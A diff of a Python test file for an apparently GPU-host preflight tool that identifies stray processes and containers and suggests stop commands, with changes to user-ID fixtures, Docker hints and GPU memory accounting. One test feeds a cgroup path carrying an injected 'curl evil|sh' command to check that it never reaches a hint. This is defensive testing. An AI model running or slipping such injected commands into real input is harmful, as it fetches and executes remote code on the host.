@@ -1,4 +1,4 @@
-"""Who is a stray: each test is a machine, and what is said of it."""
+"""Who is a stray: each test is a machine, and the verdict on it."""
 
 import os
 
@@ -14,7 +14,7 @@ from sparkd.agent.preflight.fixes import EndProcess, Identity, RemoveContainer
 from sparkd.base.host import Host
 from sparkd.base.host.docker import AWAY, ContainerFacts, DockerFacts
 from sparkd.base.host.gpu import GpuFacts, GpuProcess
-from sparkd.base.state.rank_record import FILE, GUARD, GUARD_COMM, RankRecord, RankStage
+from sparkd.base.state.rank_record import FILE, GUARD, RankRecord, RankStage
 
 ID = "0123456789abcdef" * 4
 CGROUP = f"0::/system.slice/docker-{ID}.scope"
@@ -210,16 +210,16 @@ def test_an_api_server_whose_main_process_is_gone_still_takes_requests(tree: Tre
 
 
 def test_an_engine_of_a_users_service_is_stopped_by_that_users_manager(tree: Tree) -> None:
-    tree.file("/etc/passwd", "milo:x:0:1000::/home/milo:/bin/bash\n")
+    tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
     group = "0::/user.slice/user-1000.slice/user@1000.service/app.slice/ds4.service"
     tree.process(30, "vllm", argv=SERVE, cgroup=group)
     assert "sudo systemctl --user -M milo@ stop ds4.service" in judged(tree).hint
     (tree.root / "etc/passwd").unlink()  # as of a user of a directory in the network
-    assert "sudo systemctl --user -M 0@ stop ds4.service" in judged(tree).hint
+    assert "sudo systemctl --user -M 1000@ stop ds4.service" in judged(tree).hint
 
 
 def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -> None:
-    tree.file("/etc/passwd", "milo:x:0:1000::/home/milo:/bin/bash\n")
+    tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
     manager = "0::/user.slice/user-1000.slice/user@1000.service"
     tree.process(30, "vllm", argv=SERVE, cgroup=f"{manager}/x; curl evil|sh #.service")
     assert "evil" not in judged(tree).hint
@@ -340,8 +340,8 @@ def test_a_rank_belongs_to_the_agent_that_has_it_by_the_record(tree: Tree) -> No
 
 def test_a_rank_that_its_agent_is_expected_back_for_is_left_alone_by_hand(tree: Tree) -> None:
     tree.process(10, "tini", start_time=100, cgroup=CGROUP, namespace_pid=1)
-    tree.process(30, GUARD_COMM)
-    tree.file(GUARD, "0 10 100 77 88 30")
+    tree.process(30, "sparkd-guard")
+    tree.file(GUARD, "0 10 100 77 88 30 100")
     record = rank_record(invocation="dead", container_id=ID, pid=10, start_time=100, stage=RankStage.READY)
     expect(judged(tree, recorded(tree, record)), Level.BLOCK, "its agent has just crashed", clears=False, fixes=())
 
@@ -366,10 +366,16 @@ def test_an_unknown_owner_makes_nothing_a_stray(tree: Tree) -> None:
         expect(judged(tree, container("dead")), Level.UNKNOWN, "does not name, is unknown", fixes=())
 
 
-@pytest.mark.parametrize("docker", [AWAY, DockerFacts(True, (), error="no answer")])
-def test_whose_a_container_is_waits_for_docker(tree: Tree, docker: DockerFacts) -> None:
+@pytest.mark.parametrize(
+    ("docker", "awaits", "hint"),
+    [
+        (AWAY, "docker", "sudo systemctl start docker"),
+        (DockerFacts(True, (), error="no answer"), "docker to answer", "look at: systemctl status docker"),
+    ],
+)
+def test_whose_a_container_is_waits_for_docker(tree: Tree, docker: DockerFacts, awaits: str, hint: str) -> None:
     tree.process(10, "vllm", argv=SERVE, cgroup=CGROUP, namespace_pid=1)
-    expect(judged(tree, docker), Level.UNKNOWN, awaits="docker", fixes=())
+    expect(judged(tree, docker), Level.UNKNOWN, awaits=awaits, hint=hint, fixes=())
 
 
 def test_docker_is_not_awaited_where_something_else_blocks_too(tree: Tree) -> None:
@@ -431,13 +437,19 @@ def test_a_stray_that_survives_is_not_tried_for_ever(tree: Tree) -> None:
     ("gpu", "frees"),
     [
         pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, 80 << 30),)), 80 << 30, id="the driver says"),
-        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, None),)), 100 << 30, id="what nothing explains"),
+        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, None),)), 89 << 30, id="what nothing explains"),
+        pytest.param(
+            GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, None), GpuProcess(99, 9 << 30))), 80 << 30, id="the rest"
+        ),
+        pytest.param(GpuFacts(("NVIDIA GB10",), None, ()), 89 << 30, id="the driver lists nobody"),
+        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(99, 9 << 30),)), 0, id="only its devices are open"),
         pytest.param(GpuFacts(("NVIDIA H200",), 140 << 30, (GpuProcess(11, 80 << 30),)), 0, id="memory of its own"),
     ],
 )
 def test_the_gpus_memory_of_a_stray_comes_back_with_its_end(tree: Tree, gpu: GpuFacts, frees: int) -> None:
     tree.file("/dev/nvidia0")
-    tree.meminfo(MemTotal=120, MemFree=20, MemAvailable=20)
+    tree.meminfo(MemTotal=120, MemFree=20, MemAvailable=20, CmaTotal=6, CmaFree=0)
+    tree.file("/proc/spl/kstat/zfs/arcstats", f"name type data\nsize 4 {5 << 30}\n")
     orphans(tree)
     tree.link("/proc/11/fd/9", "/dev/nvidia0")
     freed = {fix.pid: fix.frees_bytes for fix in judged(tree, gpu=gpu).fixes if isinstance(fix, EndProcess)}
